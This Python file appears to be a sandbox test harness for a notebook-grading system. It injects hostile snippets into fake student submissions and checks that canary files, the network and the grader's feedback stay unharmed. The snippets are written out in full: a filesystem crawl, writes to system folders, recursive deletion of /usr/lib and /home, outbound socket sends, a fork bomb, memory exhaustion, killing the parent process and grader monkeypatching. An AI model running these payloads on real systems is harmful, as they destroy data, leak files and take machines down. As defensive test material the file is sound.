"""Hostile submissions for the benchmark of grading, and a world for them to harm."""

import hashlib
import shutil
import socket
import threading
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HOSTILE = {
    "reads": """
import glob, os
roots = ["/", "{root}", "{canary_folder}", os.getcwd(), "/proc/1/root", "/proc/1/cwd"]
found = []
for root in roots:
    for folder, _, files in os.walk(root):
        if folder.startswith(("/usr", "/sys", "/proc/")) or "-packages" in folder:
            continue
        found += [os.path.join(folder, f) for f in files
                  if f.endswith((".db", ".toml", ".ipynb")) or "canary" in f]
def sigmoid(*args):
    raise ValueError(str([n for n in dir() if "hidden" in n.lower()]) + str(found))
print("FOU" "ND", found)
""",
    "writes": """
import pathlib
for place in ["{root}", "{canary_folder}", "/usr", "/etc", "/package/lstm_core"]:
    try:
        pathlib.Path(place, "hostile.txt").write_text("was " "here")
        print("WRO" "TE", place)
    except OSError as error:
        print("refused", error)
""",
    "deletes": """
import shutil
for place in ["{root}", "{canary_folder}", "/package", "/usr/lib", "/home"]:
    shutil.rmtree(place, ignore_errors=True)
""",
    "socket": """
import socket, urllib.request
for address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("192.0.2.1", 80)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"hidden tests")
        print("CONN" "ECTED", address)
    except OSError as error:
        print("refused", error)
""",
    "forks": """
import os
for _ in range(5000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
""",
    "memory": "hog = [b'x' * 100_000_000 for _ in range(100)]",
    "floods": "while True: print('x' * 10_000)",
    "kills": "import os, signal; os.kill(os.getppid(), signal.SIGKILL); os._exit(1)",
    "ignores": """
import signal
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "answers": """
import json
from lstm_core import exercises
def answer(request):
    return json.dumps(dict(value=dict(kind="array", dtype="float64",
                                      shape=[10**9], data="")))
exercises.answer = answer
""",
}


class World:
    """Submissions, beside things that a hostile one would like to harm or reach."""

    def __init__(self, root: Path):
        self.root, self.visits = root, []
        self.canaries = root / "canaries"
        self.canaries.mkdir()
        (self.canaries / "canary.txt").write_text("unharmed", "utf-8")
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]

    def __enter__(self):
        self.before = self.state()
        threading.Thread(target=self.listen, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.server.close()

    def listen(self):
        """Note whoever connects."""
        while True:
            try:
                self.visits.append(self.server.accept()[1])
            except OSError:
                return

    def state(self) -> dict[str, str]:
        """What must be the same afterwards: canaries and submissions."""
        files = [*self.canaries.rglob("*"), *(self.root / "submissions").rglob("*")]
        return {
            str(f): hashlib.sha256(f.read_bytes()).hexdigest()
            for f in files
            if f.is_file()
        }

    def hand_in(self, name: str, students: int) -> dict[str, str]:
        """Write submissions; returns who handed in what."""
        from assignments.grading.course import SOURCE, make_course, release_of
        from assignments.grading.prove import find, signed

        course = self.root / "course"
        make_course(course, [name])
        source, empty = SOURCE / name / f"{name}.ipynb", release_of(course, name)
        kinds = dict.fromkeys(HOSTILE, "hostile")
        for number in range(students - len(HOSTILE)):
            kinds[f"student{number:03d}"] = ("right", "half", "empty")[number % 3]
        for student, kind in kinds.items():
            notebook = signed(source if kind in ("right", "half") else empty, student)
            if kind == "half":
                find(notebook, "gate").source = "gate = None"
            if kind == "hostile":
                code = HOSTILE[student].replace("{root}", str(self.root))
                code = code.replace("{canary_folder}", str(self.canaries))
                code = code.replace("{port}", str(self.port))
                notebook.cells.insert(1, new_code_cell(code))
            path = self.root / "submissions" / student / f"{name}.ipynb"
            path.parent.mkdir(parents=True)
            nbformat.write(notebook, path)
        shutil.rmtree(course)
        self.before = self.state()
        return kinds

    def faults(self, results: list[dict], kinds: dict[str, str]) -> list[str]:
        """What went wrong: points, files, visits, leaks."""
        found = [f"harmed: {k}" for k in self.before if self.state().get(k) is None]
        if self.state() != self.before:
            found.append("files were changed or added")
        if self.visits:
            found.append(f"connections from {self.visits}")
        for result in results:
            tests = {k: c for k, c in result["cells"].items() if not c["by_hand"]}
            lost = sum(c["most"] - (c["points"] or 0) for c in tests.values())
            most = sum(c["most"] for c in tests.values())
            wanted = {"right": 0, "half": 4}.get(kinds[result["student"]], most)
            if lost != wanted or (result["problem"] and wanted != most):
                found.append(f"{result['student']}: lost {lost}, expected {wanted}")
        return found + self.leaks()

    def leaks(self) -> list[str]:
        """Traces of success in the feedback of hostile submissions."""
        words = ("FOUND [&#39;/", "WROTE", "CONNECTED", "unharmed")
        return [
            f"{page.name} of {page.parts[-3]}: {word}"
            for page in (self.root / "out" / "feedback").rglob("*.html")
            for word in words
            if word in page.read_text("utf-8") and page.parts[-3] in HOSTILE
        ]
